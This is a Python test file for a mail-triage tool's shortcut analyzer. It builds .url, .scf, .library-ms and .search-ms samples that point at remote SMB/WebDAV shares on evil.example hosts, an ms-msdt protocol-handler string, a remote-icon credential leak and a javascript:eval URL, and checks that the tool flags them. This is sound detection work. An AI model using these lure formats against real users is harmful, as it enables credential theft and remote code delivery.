"""shortcut analyzer: Internet shortcuts (.url/.website), shell command files (.scf),
libraries (.library-ms), search connectors and saved searches written by the test, as
the 2023-2025 campaigns used them (remote file, remote icon, WebDAV/SMB locations,
protocol handlers), plus plain web links, and malformed or hostile files."""

from __future__ import annotations

import pytest

from mailvm.config import TriageConfig
from mailvm.triage import Triage, shortcut
from mailvm.triage.kinds import classify
from triage_helpers import art, ids


def url_file(url: str, icon: str = "", extra: str = "") -> bytes:
    lines = ["[{000214A0-0000-0000-C000-000000000046}]", "Prop3=19,9", "[InternetShortcut]", "IDList=", f"URL={url}"]
    if icon:
        lines += [f"IconFile={icon}", "IconIndex=13"]
    return ("\r\n".join(lines) + "\r\n" + extra).encode()


LIBRARY = """<?xml version="1.0" encoding="UTF-8"?>
<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">
  <name>@windows.storage.dll,-34582</name>
  <version>6</version>
  <isLibraryPinned>true</isLibraryPinned>
  <iconReference>imageres.dll,-1003</iconReference>
  <templateInfo><folderType>{7d49d726-3c21-4f05-99aa-fdc2c9474656}</folderType></templateInfo>
  <searchConnectorDescriptionList>
    <searchConnectorDescription>
      <isDefaultSaveLocation>true</isDefaultSaveLocation>
      <isSupported>false</isSupported>
      <simpleLocation><url>{location}</url></simpleLocation>
    </searchConnectorDescription>
  </searchConnectorDescriptionList>
</libraryDescription>
"""

SEARCH = """<?xml version="1.0"?>
<persistedQuery version="1.0">
  <viewInfo viewMode="details" iconSize="16"/>
  <query><conditions><condition type="leafCondition" property="System.FileName" operator="wordmatch" value="invoice"/>
  </conditions><kindList><kind name="item"/></kindList>
  <scope><include path="{location}" nonRecursive="true"/></scope></query>
</persistedQuery>
"""


@pytest.fixture(scope="module")
def triage(tmp_path_factory) -> Triage:
    return Triage(TriageConfig(yara_rules_dir=str(tmp_path_factory.mktemp("noyara") / "absent")))


def run(triage, tmp_path, data: bytes, name: str):
    p = tmp_path / name
    p.write_bytes(data)
    return triage.analyze(art(p))


@pytest.mark.parametrize("url", ["file://203.0.113.5/share/Invoice.pdf.exe", "\\\\203.0.113.5@80\\webdav\\doc.lnk",
                                 "file:\\\\\\\\evil.example\\DavWWWRoot\\a.vbs"])
def test_url_opening_a_remote_file(triage, tmp_path, url):
    r = run(triage, tmp_path, url_file(url), "Invoice.url")
    assert r.kind == "shortcut" and not r.detonate
    assert ids(r)["shortcut_remote_file"] == 7 and r.verdict == "malicious"


def test_remote_icon_leaks_credentials(triage, tmp_path):
    found = ids(run(triage, tmp_path, url_file("https://www.example.com/", icon="\\\\198.51.100.4\\share\\doc.ico"), "x.url"))
    assert found["shortcut_remote_icon"] == 6 and found["shortcut_web_link"] == 3


def test_scf_shell_command_with_remote_icon(triage, tmp_path):
    data = b"[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.4\\share\\test.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n"
    r = run(triage, tmp_path, data, "@readme.scf")
    assert r.kind == "shortcut" and ids(r)["shortcut_remote_icon"] == 6


@pytest.mark.parametrize("url, fid", [("search-ms:query=invoice&crumb=location:\\\\evil.example@80\\share", "shortcut_protocol_handler"),
                                      ("ms-msdt:/id PCWDiagnostic /skip force", "shortcut_protocol_handler"),
                                      ("javascript:eval(atob('YWxlcnQoMSk='))", "shortcut_script_url")])
def test_handlers_and_script(triage, tmp_path, url, fid):
    assert ids(run(triage, tmp_path, url_file(url), "a.url"))[fid] == 7


def test_web_link_rated_by_its_url(triage, tmp_path):
    plain = ids(run(triage, tmp_path, url_file("https://www.debian.org/releases/"), "debian.url"))
    assert plain["shortcut_web_link"] == 3
    payload = ids(run(triage, tmp_path, url_file("http://203.0.113.8/files/scan_0412.js"), "scan.url"))
    assert payload["shortcut_web_link"] == 6  # an IP address and a script download


def test_local_program(triage, tmp_path):
    found = ids(run(triage, tmp_path, url_file("file:///C:/Windows/System32/WindowsPowerShell/v1.0/powershell.exe"), "p.url"))
    assert found["shortcut_local_file"] == 5


@pytest.mark.parametrize("location", ["\\\\files.evil.example@SSL\\DavWWWRoot\\docs", "https://evil.example/webdav/",
                                      "\\\\203.0.113.5\\share"])
def test_library_pointing_at_another_machine(triage, tmp_path, location):
    r = run(triage, tmp_path, LIBRARY.replace("{location}", location).encode(), "Documents.library-ms")
    assert r.kind == "shortcut" and ids(r)["shortcut_remote_location"] == 7


def test_saved_search_utf16_pointing_at_a_share(triage, tmp_path):
    data = b"\xff\xfe" + SEARCH.replace("{location}", "\\\\evil.example\\invoices").encode("utf-16-le")
    r = run(triage, tmp_path, data, "invoices.search-ms")
    assert r.kind == "shortcut" and ids(r)["shortcut_remote_location"] == 7


def test_local_library_is_informational(triage, tmp_path):
    r = run(triage, tmp_path, LIBRARY.replace("{location}", "knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}").encode(),
            "Documents.library-ms")
    assert ids(r)["shortcut_library"] == 2 and "shortcut_remote_location" not in ids(r)


def test_kind_by_content():
    assert shortcut.is_shortcut(url_file("https://a.example/"))
    assert shortcut.is_shortcut(LIBRARY.encode())
    assert not shortcut.is_shortcut(b"[Settings]\nName=x\n")
    assert not shortcut.is_shortcut(b"[DEFAULT]\nurl = https://api.example.com/v1\n")  # a configparser file
    assert not shortcut.is_shortcut(b"<html><body>[InternetShortcut]</body></html>")


def test_link_urls_for_the_downloader():
    assert shortcut.link_urls(url_file("https://a.example/x.hta")) == ["https://a.example/x.hta"]
    assert shortcut.link_urls(url_file("file://h/x.exe")) == []
    assert shortcut.link_urls(LIBRARY.replace("{location}", "https://dav.example/s/").encode()) == ["https://dav.example/s/"]


@pytest.mark.parametrize("data, name", [
    (b"[InternetShortcut]\r\nIconFile=x\r\n", "broken.url"),
    (LIBRARY.replace("<version>6</version>", "<!ENTITY x 'y'>").encode(), "entity.library-ms"),
    (LIBRARY.replace("</libraryDescription>", "").replace("{location}", "\\\\h.example\\s").encode(), "cut.library-ms"),
    (b"[InternetShortcut]\r\n" + b"URL=" + b"A" * 300000, "huge.url"),
    (LIBRARY.replace('encoding="UTF-8"', 'encoding="UTF-X"').encode(), "enc.library-ms"),
])
def test_malformed_files_are_findings(triage, tmp_path, data, name):
    r = run(triage, tmp_path, data, name)
    assert r.errors == [] and r.kind == "shortcut"
    found = ids(r)
    assert "shortcut_malformed" in found or "shortcut_web_link" in found or "shortcut_other_url" in found


def test_truncated_library_still_reports_its_share(triage, tmp_path):
    data = LIBRARY.replace("</libraryDescription>", "").replace("{location}", "\\\\h.example\\s").encode()
    found = ids(run(triage, tmp_path, data, "cut.library-ms"))
    assert found["shortcut_remote_location"] == 7 and found["shortcut_malformed"] == 2


def test_classify_file(tmp_path):
    p = tmp_path / "anything.txt"
    p.write_bytes(url_file("https://a.example/"))
    assert classify(art(p)) == "shortcut"
